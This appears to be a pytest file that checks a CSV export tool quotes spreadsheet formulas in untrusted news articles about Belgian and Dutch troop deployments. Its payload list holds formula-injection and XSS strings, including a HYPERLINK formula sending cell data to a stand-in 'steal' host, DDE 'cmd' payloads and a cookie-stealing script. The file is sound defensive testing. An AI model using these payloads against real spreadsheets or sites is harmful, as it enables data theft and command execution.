"""Untrusted text: articles carrying spreadsheet formulas and markup, exported as CSV.

A cell that a spreadsheet would evaluate (starting with =, +, -, @, tab or CR) is written with a
leading quote, in `core export`, `core extract --format csv` and `core.export.to_csv_bytes` (what
every dashboard download serves); numbers stay numbers. (That no script runs in the dashboard is
the dashboard's browser test.)
"""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pandas as pd
import pytest

from core.cli import main
from core.export import neutralise, to_csv_bytes
from core.schema import TABLES
from core.store import load_tables
from tests.reliability.helpers import assert_one_line_messages, cli

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://x.example/steal?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-1+2",
    "@SUM(A1:A9)",
    "\tX=1",
    "\r=1+1",
    "=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "[click me](javascript:alert(1))",
    "![pixel](http://x.example/track.png)",
    "<a href='javascript:alert(1)'>link</a>",
    "{{7*7}} ${7*7}",
]
NUMERIC = {(table, column.name) for table, columns in TABLES.items() for column in columns
           if column.dtype in ("int", "float")}


def _article(payload: str, n: int) -> dict:
    """A JSON article whose title, source, url and sentences start with the payload."""
    body = [
        f"{payload} Belgium will deploy 300 soldiers to Cincu Training Area in Romania.",
        f"{payload} Belgium approved €{30 + n} million for drones on 12 December 2025.",
        f"{payload} The Netherlands joined the Drone Coalition led by Latvia in March 2024.",
        f"{payload} Defence Minister Theo Francken said the Belgian troops would stay in Romania.",
        f"Belgian troops at {payload} Air Base and at Mihail Kogălniceanu Air Base, case {n}.",
    ]
    return {"title": f"{payload} Belgium sends troops ({n})", "text": "\n".join(body), "source": payload,
            "url": payload, "published": "2025-12-14"}


def _html_article(payload: str) -> str:
    """A web page whose site name, title and paragraph carry the payload."""
    escaped = payload.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return (f'<html><head><meta property="og:site_name" content="{escaped}">'
            f'<meta property="og:title" content="{escaped} Dutch jets in Lithuania"></head><body><article>'
            f"<p>{escaped} The Netherlands sent four F-35 jets to Šiauliai Air Base in Lithuania on 3 May 2025.</p>"
            f"<p>The Dutch detachment of 120 airmen will stay until August 2025.</p></article></body></html>")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("untrusted")
    corpus = base / "corpus"
    corpus.mkdir()
    for n, payload in enumerate(PAYLOADS):
        (corpus / f"payload_{n:02d}.json").write_text(json.dumps(_article(payload, n)), encoding="utf-8")
        (corpus / f"payload_{n:02d}.html").write_text(_html_article(payload), encoding="utf-8")
    db = base / "store.duckdb"
    proc = cli("ingest", corpus, "--db", db, "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert_one_line_messages(proc.stderr)
    return db


def _check_cells(table: str, header: list[str], rows: list[list[str]]) -> int:
    """Assert no cell would run as a formula and numeric columns hold numbers; return the payload cells seen."""
    quoted = 0
    for name in header:
        assert not name.startswith(FORMULA_START)
    for row in rows:
        assert len(row) == len(header)
        for name, cell in zip(header, row, strict=True):
            if (table, name) in NUMERIC:
                assert cell == "" or math.isfinite(float(cell)), (table, name, cell)
                continue
            assert not cell.startswith(FORMULA_START), (table, name, cell)
            quoted += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    return quoted


def _read_csv(text: str) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], rows[1:]


def test_every_table_exported_by_the_cli_is_safe(store: Path, tmp_path: Path):
    """`core export TABLE -o FILE` for every table (in process; a subprocess run is below)."""
    seen: dict[str, int] = {}
    for table in TABLES:
        out = tmp_path / f"{table}.csv"
        assert main(["export", table, "--db", str(store), "-o", str(out)]) == 0
        header, rows = _read_csv(out.read_text(encoding="utf-8"))
        seen[table] = _check_cells(table, header, rows)
    print(f"cells neutralised per table: {seen}")
    assert seen["articles"] >= 2 * 8  # titles and sources of the formula payloads
    for table in ("budgets", "deployments", "coalitions", "events", "roles"):
        assert seen[table] > 0, f"no payload reached {table}: the test does not test it"


def test_payloads_survive_quoted_not_lost(store: Path, tmp_path: Path):
    out = tmp_path / "articles.csv"
    assert cli("export", "articles", "--db", store, "-o", out).returncode == 0
    header, rows = _read_csv(out.read_text(encoding="utf-8"))
    titles = {row[header.index("title")] for row in rows}
    assert "'=1+1 Belgium sends troops (7)" in titles
    assert "<script>alert(1)</script> Belgium sends troops (8)" in titles  # markup is the page's job, kept verbatim
    sources = {row[header.index("source")] for row in rows}
    assert "'@SUM(A1:A9)" in sources and "'=cmd|' /C calc'!A0" in sources


def test_amounts_stay_numbers(store: Path, tmp_path: Path):
    out = tmp_path / "budgets.csv"
    assert cli("export", "budgets", "--db", store, "-o", out).returncode == 0
    frame = pd.read_csv(out)
    assert frame["amount"].dtype.kind in "if" and frame["amount"].notna().all()
    assert set(frame["amount"]) >= {30e6, 31e6, 44e6}


def test_dashboard_downloads_are_safe(store: Path):
    """to_csv_bytes on every table as the dashboard loads it, and on filtered or categorical copies."""
    frames = load_tables(store)
    for table, frame in frames.items():
        variants = [frame, frame.head(3), frame.astype({c: "category" for c in frame.columns
                                                        if frame[c].dtype == object and (table, c) not in NUMERIC
                                                        and frame[c].map(lambda v: isinstance(v, str)).all()})]
        for variant in variants:
            header, rows = _read_csv(to_csv_bytes(variant).decode("utf-8"))
            _check_cells(table, header, rows)


def test_extract_csv_is_safe(store: Path, tmp_path: Path):
    corpus = tmp_path / "one"
    corpus.mkdir()
    (corpus / "a.json").write_text(json.dumps(_article("=1+1", 1)), encoding="utf-8")
    proc = cli("extract", "--format", "csv", corpus)
    assert proc.returncode == 0, proc.stderr
    for section in proc.stdout.split("# ")[1:]:
        table, text = section.split("\n", 1)
        header, rows = _read_csv(text)
        _check_cells(table, header, rows)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tX", "'\tX"),
    ("\r=1", "'\r=1"), ("Kyiv", "Kyiv"), ("", ""), (-5, -5), (1.5, 1.5), (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_header_and_category_cells_are_neutralised():
    frame = pd.DataFrame({"=evil": ["x"], "kind": pd.Series(["=1+1"], dtype="category"),
                          "note": pd.Series(["@x"], dtype="string"), "amount": [-3.5]})
    header, rows = _read_csv(to_csv_bytes(frame).decode("utf-8"))
    assert header == ["'=evil", "kind", "note", "amount"]
    assert rows == [["x", "'=1+1", "'@x", "-3.5"]]
